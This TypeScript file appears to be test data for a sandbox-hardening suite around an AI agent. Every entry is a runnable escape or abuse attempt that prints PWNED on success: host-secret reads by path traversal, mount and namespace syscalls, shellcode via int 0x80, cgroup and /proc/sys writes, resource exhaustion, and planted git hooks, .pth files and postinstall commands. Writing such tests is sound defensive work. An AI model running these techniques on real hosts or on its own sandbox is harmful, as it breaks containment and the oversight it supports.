/** Attempts written for this suite, in the format of attack files. Each prints PWNED only when it worked. */

export interface OwnAttack {
  readonly id: string;
  readonly group: string;
  readonly language: 'sh' | 'python' | 'node' | 'tool' | 'toolcall';
  readonly code: string | Readonly<Record<string, unknown>>;
  readonly expect: {
    readonly verdict: 'denied' | 'flagged' | 'refused';
    readonly escaped_if: { readonly stdout: string; readonly host_check?: string };
  };
  readonly control?: boolean;
  readonly timeout_ms?: number;
}

type Extra = { readonly control?: boolean; readonly timeout_ms?: number; readonly host?: string };
const make =
  (verdict: 'denied' | 'flagged' | 'refused', language: OwnAttack['language']) =>
  (id: string, code: OwnAttack['code'], { host, ...extra }: Extra = {}): OwnAttack => ({
    id: `own-${id}`,
    group: 'own',
    language,
    code,
    expect: { verdict, escaped_if: { stdout: 'PWNED', ...(host === undefined ? {} : { host_check: host }) } },
    ...extra,
  });
export const sh = make('denied', 'sh');
export const python = make('denied', 'python');
const node = make('denied', 'node');
const plant = make('flagged', 'sh');
const tool = make('denied', 'tool');
const call = make('refused', 'toolcall');

export const SYSCALL = `
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True); libc.syscall.restype = ctypes.c_long
def sc(*a):
    ctypes.set_errno(0); return libc.syscall(*[ctypes.c_long(x) if isinstance(x, int) else x for x in a]), ctypes.get_errno()
def forked(attempt):
    pid = os.fork()
    if pid == 0:
        r, e = attempt(); os._exit(7 if r >= 0 or e not in (1, 38) else 8)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 7
`;
const OPENS = (socket: string): string => `
import socket
try:
    ${socket}; print('PWNED')
except OSError as e: print('denied', e.errno)`;
/** Machine code in an executable page: `int 0x80` enters the kernel through the 32-bit table whatever the process is. */
const INT80 = `${SYSCALL}
import mmap
page = mmap.mmap(-1, 4096, prot=7)
page.write(bytes.fromhex('b814000000cd80c3'))
address = ctypes.addressof(ctypes.c_char.from_buffer(page))
print('PWNED' if forked(lambda: (lambda r: (r, -min(r, 0)))(ctypes.CFUNCTYPE(ctypes.c_int)(address)())) else 'denied')`;

const CONNECT_ALL = `const net = require('net'); const hosts = ['::ffff:127.0.0.1', '::ffff:169.254.169.254', '0.0.0.0', 'localhost'];
Promise.all(hosts.map((host) => new Promise((done) => { const s = net.connect({ host, port: {{HOST_PORT}}, timeout: 1000 });
  s.on('connect', () => { console.log('PWNED', host); s.destroy(); done(); });
  for (const e of ['error', 'timeout']) s.on(e, () => { s.destroy(); done(); }); })));`;

export const OWN_ATTACKS: { readonly version: 1; readonly attacks: readonly OwnAttack[] } = {
  version: 1,
  attacks: [
    // Files.
    sh(
      'dotdot-from-every-mount',
      `for d in /workspace /tmp /home/agent /opt/node/bin /dev/shm /proc/self/cwd /proc/self/root; do cd $d 2>/dev/null || continue; cat ../../../../../../../..'{{HOST_SECRET}}' 2>/dev/null | grep -q '{{CANARY}}' && echo PWNED $d; done`,
      { control: true },
    ),
    sh(
      'leaky-descriptors',
      `for f in 0 1 2 3 4 5 6 7 8 9 10 11 12; do for up in . .. ../.. ../../../..; do cat "/proc/self/fd/$f/$up{{HOST_SECRET}}" 2>/dev/null | grep -q '{{CANARY}}' && echo PWNED $f; done; done; for p in /proc/[0-9]*; do ls $p/cwd/.. $p/root'{{HOST_DIR}}' 2>/dev/null | grep -q sluice-attack && echo PWNED $p; done`,
    ),
    sh(
      'remount-writable',
      `mount -o remount,rw / 2>/dev/null && echo PWNED; mount -o remount,rw /usr 2>/dev/null && echo PWNED; mount -o bind,rw /proc/sys /proc/sys 2>/dev/null && echo PWNED; mount --bind /proc /tmp 2>/dev/null && echo PWNED`,
    ),
    python(
      'handles-past-mounts',
      `${SYSCALL}\nh = ctypes.create_string_buffer(bytes([128,0,0,0]) + b'\\0' * 132); m = ctypes.c_int()\nif forked(lambda: sc(303, -100, b'/usr', h, ctypes.byref(m), 0)): print('PWNED name')\nif forked(lambda: sc(304, 3, h, 0)): print('PWNED open')`,
    ),
    sh(
      'sparse-giant',
      `truncate -s 20G /workspace/giant 2>/dev/null; s=$(stat -c %s /workspace/giant 2>/dev/null || echo 0); rm -f /workspace/giant; [ "$s" -gt 1000000000 ] && echo PWNED $s`,
      { control: true },
    ),
    // Kernel.
    python('int80', INT80),
    python('vsock', OPENS('socket.socket(40, socket.SOCK_STREAM)')),
    python(
      'unix-datagram-pair',
      `import socket\ntry:\n    c, d = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n    try: c.sendto(b'x', '/workspace/host.sock')\n    except OSError as e: print('PWNED' if e.errno in (91, 111) else 'denied')\nexcept OSError as e: print('denied', e.errno)`,
      { control: true },
    ),
    python('ping-socket', OPENS('socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)')),
    python('mptcp', OPENS('socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)')),
    python(
      'setns-to-init',
      `${SYSCALL}\nfor name in ('mnt', 'net', 'pid', 'user'):\n    fd = os.open('/proc/1/ns/' + name, 0)\n    if forked(lambda: sc(308, fd, 0)): print('PWNED', name)`,
    ),
    python(
      'new-mount-calls',
      `${SYSCALL}\nfor number in (428, 429, 430, 431, 432, 433, 442, 457, 458, 467):\n    if forked(lambda: sc(number, -100, b'/', 0, 0, 0)): print('PWNED', number)`,
    ),
    python(
      'io-uring',
      `${SYSCALL}\nprint('PWNED' if forked(lambda: sc(425, 4, ctypes.create_string_buffer(120))) else 'denied')`,
    ),
    python(
      'another-filter',
      `${SYSCALL}\nprint('PWNED' if libc.prctl(22, 2, ctypes.create_string_buffer(16)) == 0 else 'denied')`,
    ),
    sh(
      'nested-sandbox',
      `command -v bwrap >/dev/null && bwrap --unshare-all --ro-bind / / true 2>/dev/null && echo PWNED; unshare -Urpf --mount-proc true 2>/dev/null && echo PWNED`,
      { control: true },
    ),
    sh(
      'cgroup-release-agent',
      `mkdir -p /tmp/cg && mount -t cgroup -o memory none /tmp/cg 2>/dev/null && echo PWNED; find / -name release_agent -not -path '/usr/*' 2>/dev/null | grep -q . && echo PWNED`,
    ),
    sh(
      'set-id-every-way',
      `cp /bin/true /workspace/t1; chmod u+s /workspace/t1 2>/dev/null && echo PWNED; install -m 6755 /bin/true /workspace/t2 2>/dev/null && [ -u /workspace/t2 ] && echo PWNED; python3 -c "import os; os.close(os.open('/workspace/t3', os.O_CREAT | os.O_WRONLY, 0o4755))" 2>/dev/null; [ -u /workspace/t3 ] && echo PWNED; python3 -c "import os; os.mknod('/workspace/t4', 0o104755)" 2>/dev/null; [ -u /workspace/t4 ] && echo PWNED; true`,
      { control: true },
    ),
    python(
      'userfaultfd',
      `${SYSCALL}\nprint('PWNED' if forked(lambda: sc(323, 0)) or forked(lambda: sc(323, 1)) else 'denied')\ntry: os.open('/dev/userfaultfd', os.O_RDWR); print('PWNED')\nexcept OSError: pass`,
    ),
    python(
      'perf-and-bpf',
      `${SYSCALL}\nattr = ctypes.create_string_buffer(128)\nprint('PWNED' if forked(lambda: sc(298, attr, 0, -1, -1, 0)) or forked(lambda: sc(321, 0, attr, 48)) else 'denied')`,
    ),
    python(
      'trace-init',
      `${SYSCALL}\nprint('PWNED' if forked(lambda: sc(101, 16, 1, 0, 0)) or forked(lambda: sc(101, 0x4206, 1, 0, 0)) else 'denied')`,
    ),
    python(
      'keyrings',
      `${SYSCALL}\nprint('PWNED' if forked(lambda: sc(250, 0, -3, 1)) or forked(lambda: sc(248, b'user', b'x', b'y', 1, -3)) else 'denied')`,
    ),
    python(
      'chroot-and-climb',
      `${SYSCALL}\nos.makedirs('/tmp/jail', exist_ok=True); fd = os.open('/', os.O_RDONLY)\nif forked(lambda: sc(161, b'/tmp/jail')): os.fchdir(fd); print('PWNED')`,
    ),
    python(
      'register-binary-format',
      `import os\nfor path in ('/proc/sys/fs/binfmt_misc/register', '/proc/sys/kernel/core_pattern', '/proc/sys/kernel/modprobe', '/proc/sys/kernel/hotplug', '/proc/sys/vm/overcommit_memory', '/proc/self/oom_score_adj/../../1/oom_score_adj'):\n    try:\n        f = os.open(path, os.O_WRONLY); print('PWNED' if path.startswith('/proc/sys') else 'denied', path)\n    except OSError: pass`,
    ),
    python(
      'fuse-and-overlay',
      `${SYSCALL}\ntry: fd = os.open('/dev/fuse', os.O_RDWR)\nexcept OSError: fd = -1\noptions = b'fd=%d,rootmode=40000,user_id=0,group_id=0' % fd\nfor kind, data in ((b'fuse', options), (b'overlay', b'lowerdir=/,upperdir=/tmp/u,workdir=/tmp/w'), (b'9p', b'trans=virtio'), (b'proc', None), (b'cgroup2', None)):\n    if forked(lambda: sc(165, kind, b'/tmp', kind, 0, data if data is not None else 0)): print('PWNED', kind)`,
    ),
    python(
      'pass-a-descriptor-out',
      `import socket, os\ntry:\n    s = socket.socket(socket.AF_UNIX); s.connect('{{HOST_SOCK}}'); socket.send_fds(s, [b'x'], [0]); print('PWNED')\nexcept OSError as e: print('denied', e.errno)`,
    ),
    python(
      'type-into-a-terminal',
      `import fcntl, os, termios\nleft, right = os.openpty()\nfor request in (termios.TIOCSTI, 0x541C, 0x541D, termios.TIOCSTI | 1 << 32):\n    try: fcntl.ioctl(right, request & 0xffffffff, b'x'); print('PWNED', request)\n    except OSError as e: print('denied', e.errno)`,
    ),
    python(
      'time-travel',
      `import time\ntry: time.clock_settime(time.CLOCK_REALTIME, time.time()); print('PWNED')\nexcept OSError as e: print('denied', e.errno)`,
    ),
    sh(
      'preload-into-init',
      `echo 'int x;' > /tmp/x; for f in /etc/ld.so.preload /etc/ld.so.conf.d/x.conf /usr/lib/x.so /etc/profile.d/x.sh /opt/node/bin/x; do (echo x > $f) 2>/dev/null && echo PWNED $f; done; true`,
    ),
    // Network.
    node('mapped-addresses', CONNECT_ALL, { control: true }),
    python(
      'fast-open',
      `import socket\ns = socket.socket()\ntry: s.sendto(b'x', 0x20000000, ('127.0.0.1', {{HOST_PORT}})); print('PWNED')\nexcept OSError as e: print('denied', e.errno)`,
      { control: true },
    ),
    node(
      'own-resolver',
      `const { Resolver } = require('dns'); const r = new Resolver({ timeout: 500, tries: 1 }); r.setServers(['8.8.8.8', '1.1.1.1']); r.resolve4('example.com', (e, a) => console.log(a ? 'PWNED' : 'denied'))`,
    ),
    python(
      'broadcast-and-multicast',
      `import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)\nfor to in ('255.255.255.255', '224.0.0.251', '239.255.255.250'):\n    try: s.sendto(b'x', (to, 1900)); print('PWNED', to)\n    except OSError as e: print('denied', e.errno)`,
    ),
    python(
      'reconnect-own-stdout',
      `import socket, os\ntry:\n    s = socket.socket(fileno=os.dup(1)); s.connect('/workspace/host.sock'); print('PWNED')\nexcept OSError as e: print('denied', e.errno)`,
    ),
    // Resources.
    sh('flood-through-stdin', `yes >&0 2>/dev/null; true`, { timeout_ms: 1200 }),
    sh('stop-everything', `kill -STOP 1 2>/dev/null; kill -STOP $$; echo PWNED`, { timeout_ms: 800 }),
    python(
      'memory-in-nameless-files',
      `import os\nfor i in range(32):\n    f = os.memfd_create('m')\n    for _ in range(32): os.write(f, b'x' * (1 << 20))\nprint('PWNED')`,
    ),
    python(
      'shared-memory-bomb',
      `${SYSCALL}\nfor i in range(16):\n    r, e = sc(29, 0, 64 << 20, 0o1600)\n    if r < 0: break\n    libc.shmat.restype = ctypes.c_void_p; p = libc.shmat(ctypes.c_int(r), None, 0); ctypes.memset(p, 1, 64 << 20)\nelse: print('PWNED')`,
    ),
    sh(
      'orphans',
      `for i in 1 2 3 4 5; do (setsid sh -c 'trap "" TERM HUP; sleep 60; : {{MARK}}' >/dev/null 2>&1 &); done; python3 -c "import os; os.setsid(); os.fork() or os.execvp('sleep', ['{{MARK}}', '61'])" & sleep 0.1`,
      { host: `pgrep -f '^{{MARK}}' >/dev/null` },
    ),
    // What is left behind.
    plant('hooks-in-capitals', `mkdir -p /workspace/.GIT/Hooks && echo SBXEVIL > /workspace/.GIT/Hooks/Post-Checkout`, {
      host: `grep -rqs SBXEVIL '{{WS}}/.GIT'`,
    }),
    plant(
      'git-by-link',
      `mkdir -p /workspace/x/hooks && echo SBXEVIL > /workspace/x/hooks/post-checkout && ln -s x /workspace/.git`,
      { host: `test -e '{{WS}}/.git' || grep -rqs SBXEVIL '{{WS}}/x/hooks'` },
    ),
    plant('git-file-elsewhere', `mkdir -p /workspace/sub && echo 'gitdir: /tmp/SBXEVIL' > /workspace/sub/.git`, {
      host: `test -e '{{WS}}/sub/.git'`,
    }),
    plant(
      'bare-repository',
      `cd /workspace && git init -q --bare fixture && git -C fixture config core.fsmonitor 'echo SBXEVIL'`,
      { host: `grep -qs SBXEVIL '{{WS}}/fixture/config'` },
    ),
    plant('invisible-name', `printf 'x' > "$(printf '/workspace/.g\\342\\200\\214it')"`, {
      host: `ls -A '{{WS}}' | grep -q 'g.*it$'`,
    }),
    plant('terminal-escapes-in-name', `printf 'x' > "$(printf '/workspace/a\\033]0;title\\007b')"`, {
      host: `ls -A '{{WS}}' | grep -q title`,
    }),
    plant('line-break-in-name', `printf 'x' > "$(printf '/workspace/a\\nb')"`, {
      host: `test -e "$(printf '{{WS}}/a\\nb')"`,
    }),
    plant('mercurial-hook', `mkdir -p /workspace/.hg && printf '[hooks]\\nupdate = SBXEVIL\\n' > /workspace/.hg/hgrc`, {
      host: `test -e '{{WS}}/.hg/hgrc'`,
    }),
    plant(
      'jujutsu-editor',
      `mkdir -p /workspace/.jj/repo && echo 'ui.editor = "SBXEVIL"' > /workspace/.jj/repo/config.toml`,
      {
        host: `test -e '{{WS}}/.jj/repo/config.toml'`,
      },
    ),
    plant('path-file', `echo 'import os; os.system("SBXEVIL")' > /workspace/x.pth`, { host: `test -e '{{WS}}/x.pth'` }),
    plant('build-settings', `echo 'build --workspace_status_command=SBXEVIL' > /workspace/.bazelrc`, {
      host: `test -e '{{WS}}/.bazelrc'`,
    }),
    plant('undecodable-name', `printf 'x' > "$(printf '/workspace/\\377\\376')"`, {
      host: `ls -b '{{WS}}' | grep -q 377`,
    }),
    plant('chain-of-links', `cd /workspace && mkdir d && ln -s .. d/up && ln -s d/up/../.. out`, {
      host: `test -L '{{WS}}/out'`,
    }),
    plant('too-deep-to-see', `cd /workspace && for i in $(seq 70); do mkdir d && cd d; done && echo SBXEVIL > .envrc`),
    plant(
      'racing-writer',
      `(while :; do ln -sfn '{{HOST_DIR}}' /workspace/.envrc; rm -f /workspace/.envrc; echo SBXEVIL > /workspace/.envrc; done) & sleep 0.2; echo SBXEVIL > /workspace/.bashrc`,
      { host: `grep -qs SBXEVIL '{{WS}}/.envrc' '{{WS}}/.bashrc' || test -L '{{WS}}/.envrc'` },
    ),
    plant(
      'through-a-hard-link',
      `cd /workspace && ln package.json other && printf '{"scripts":{"postinstall":"SBXEVIL"}}' > other`,
      { host: `grep -qs SBXEVIL '{{WS}}/package.json'` },
    ),
    plant('python-at-start', `mkdir -p /workspace/lib && echo 'print("SBXEVIL")' > /workspace/lib/sitecustomize.py`, {
      host: `test -e '{{WS}}/lib/sitecustomize.py'`,
    }),
    plant(
      'development-container',
      `mkdir -p /workspace/.devcontainer && echo '{"postCreateCommand":"SBXEVIL"}' > /workspace/.devcontainer/devcontainer.json`,
      { host: `test -e '{{WS}}/.devcontainer/devcontainer.json'` },
    ),
    // Tool calls.
    tool('read-through-chain', {
      setup: `mkdir -p /workspace/a && ln -s / /workspace/a/r; ln -s a/r /workspace/b`,
      tool: { name: 'read', args: { path: 'b{{HOST_SECRET}}' } },
    }),
    tool(
      'write-through-link',
      { setup: `ln -s '{{HOST_DIR}}' /workspace/o`, tool: { name: 'write', args: { path: 'o/w3', content: 'later' } } },
      { host: `test -e '{{HOST_DIR}}/w3'` },
    ),
    call('unknown-property', { name: 'exec', args: { command: 'id', sandbox: false } }),
    call('constructor', { name: 'constructor', args: {} }),
    call('command-not-text', { name: 'exec', args: { command: ['id'] } }),
  ],
};
